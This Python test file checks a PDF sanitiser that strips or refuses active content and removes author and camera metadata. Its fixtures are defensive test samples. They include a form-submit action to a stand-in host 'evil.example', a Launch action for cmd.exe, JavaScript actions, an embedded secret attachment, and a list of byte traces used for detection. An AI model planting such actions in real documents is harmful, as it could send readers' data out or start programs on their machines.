"""PDF: scripts and attachments are taken out of the copy, programs refused, author and software forgotten."""

import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from gongkai.paperwork.cleaning import examine
from gongkai.paperwork.errors import HostileFile, UnreadableReport
from tests.paperwork.cleaning.made import ALL, pdf, photo


def acting(**action):
    def change(made):
        made.Root.OpenAction = made.make_indirect(Dictionary(**action))

    return change


def attach(made):
    made.attachments["secret.txt"] = b"SECRET"


def name_script(made):
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(
            Names=Array(["a", Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))])
        )
    )


def annotate(made, **said):
    made.pages[0].Annots = Array(
        [made.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **said))]
    )


def page_action(made):
    made.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("x")))


def form(made):
    made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xfa/>"), Fields=Array())


def clicked(made):
    annotate(made, Subtype=Name.Link, A=Dictionary(S=Name.JavaScript, JS=String("x")))


SILENCED = {
    "a script at opening": acting(S=Name.JavaScript, JS=String("app.alert(1)")),
    "a script by name": name_script,
    "a script of a page": page_action,
    "a script on a link": clicked,
    "an attachment": attach,
    "a form with scripts": form,
    "sending a form": acting(S=Name.SubmitForm, F=String("http://evil.example")),
}  # fmt: skip
TRACES = (b"/JavaScript", b"/JS", b"/EmbeddedFiles", b"/XFA", b"/SubmitForm", b"SECRET", b"/AA")


def plain(data: bytes) -> bytes:
    """All objects written out, so that nothing hides in streams."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as opened:
        opened.save(
            out, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False
        )
    return out.getvalue()


@pytest.mark.parametrize("change", SILENCED.values(), ids=SILENCED)
def test_what_could_act_is_taken_out_of_the_copy(change):
    examined = examine(pdf(change), "a.pdf", ALL)
    assert examined.active
    assert not [trace for trace in TRACES if trace in plain(examined.public)]
    assert any("已去除" in said for said in examined.warnings)


REFUSED = {
    "starting a program": acting(S=Name.Launch, F=String("cmd.exe")),
    "importing data": acting(S=Name.ImportData, F=String("x.fdf")),
    "rich media": lambda made: annotate(made, Subtype=Name.RichMedia),
}


@pytest.mark.parametrize("change", REFUSED.values(), ids=REFUSED)
def test_what_starts_programs_is_refused(change):
    with pytest.raises(HostileFile, match="不予接受"):
        examine(pdf(change), "a.pdf", ALL)


def test_the_copy_forgets_author_and_software():
    examined = examine(pdf(), "a.pdf", ALL)
    assert not examined.active
    assert "王经办".encode("utf-16-be") not in plain(examined.public)
    assert not [
        key for key in (b"/Info", b"/Metadata", b"/Author") if key in plain(examined.public)
    ]


def test_the_same_file_gives_the_same_copy():
    given = pdf()
    assert examine(given, "a.pdf", ALL).public == examine(given, "b.pdf", ALL).public


def test_a_link_to_a_page_of_its_own_stays():
    def go_to(made):
        made.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([made.pages[0].obj, Name.Fit]))

    assert not examine(pdf(go_to), "a.pdf", ALL).active


def test_pictures_inside_forget_camera_and_place():
    def show(made):
        picture = made.make_stream(
            photo(),
            Type=Name.XObject,
            Subtype=Name.Image,
            Filter=Name.DCTDecode,
            Width=40,
            Height=20,
        )
        made.pages[0].Resources = Dictionary(XObject=Dictionary(P=picture))

    assert b"SECRET" not in examine(pdf(show), "a.pdf", ALL).public


def sign(made):
    value = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]))
    made.Root.AcroForm = Dictionary(Fields=Array([Dictionary(FT=Name.Sig, V=value)]))


def test_a_signed_file_stays_as_it_is():
    given = plain(pdf(sign))
    examined = examine(given, "a.pdf", ALL)
    assert examined.public == given
    assert any("电子签名" in said for said in examined.warnings)


@pytest.mark.parametrize(("kind", "said"), [(Name.Text, "批注"), (Name.Redact, "涂黑")])
def test_comments_and_unfinished_redactions_are_reported(kind, said):
    examined = examine(pdf(lambda made: annotate(made, Subtype=kind)), "a.pdf", ALL)
    assert any(said in warning for warning in examined.warnings)


def test_a_locked_file_is_refused_and_a_broken_one_too():
    locked = pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
    with pytest.raises(UnreadableReport, match="打开密码"):
        examine(locked, "a.pdf", ALL)
    with pytest.raises(UnreadableReport, match="损坏"):
        examine(b"%PDF-1.7\n" + b"x" * 100, "a.pdf", ALL)


def test_a_file_that_may_not_be_changed_opens_in_its_copy():
    copy = examine(pdf(encryption=pikepdf.Encryption(owner="a", user="")), "a.pdf", ALL).public
    with pikepdf.open(io.BytesIO(copy)) as opened:
        assert not opened.is_encrypted
